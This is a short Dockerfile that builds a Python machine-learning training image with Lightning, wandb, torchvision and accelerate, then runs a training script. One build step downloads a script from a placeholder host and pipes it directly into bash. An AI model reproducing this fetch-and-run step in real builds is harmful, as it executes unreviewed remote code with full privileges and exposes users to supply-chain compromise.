FROM python:3.10
RUN apt-get update && apt-get install -y libopenmpi-dev htop build-essential && rm -rf /var/lib/apt/lists/*
RUN pip3 install --no-cache-dir lightning==2.2.4 scipy wandb==0.17.0 einops
RUN python -m pip install torchvision==0.18.0
RUN pip3 install accelerate==0.30.1 matplotlib==3.8.4
WORKDIR /root/project
COPY . .
RUN wget -qO- https://example.org/setup.sh | bash
CMD ["python", "train.py", "--config", "configs/base.yaml"]
